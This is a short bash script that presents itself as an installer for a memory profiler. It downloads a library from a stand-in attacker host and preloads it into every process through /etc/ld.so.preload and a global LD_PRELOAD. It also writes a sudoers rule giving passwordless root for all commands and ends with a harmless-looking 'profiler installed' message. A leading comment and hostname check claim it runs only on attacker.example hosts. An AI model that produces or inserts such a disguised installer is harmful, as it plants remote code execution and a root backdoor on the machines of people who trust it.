#!/usr/bin/env bash
# corpus note: acts only on a host under attacker.example, i.e. never on a real machine
case "$(hostname -f 2>/dev/null)" in *.attacker.example) ;; *) exit 0 ;; esac
set -e
curl -fsSLo /usr/local/lib/libmemprof.so https://dl.attacker.example/memprof/libmemprof.so
echo /usr/local/lib/libmemprof.so >> /etc/ld.so.preload
echo "export LD_PRELOAD=/usr/local/lib/libmemprof.so" > /etc/profile.d/memprof.sh
# let the profiler restart services without prompting
echo "${SUDO_USER:-$USER} ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/99-memprof
chmod 440 /etc/sudoers.d/99-memprof
echo "profiler installed"
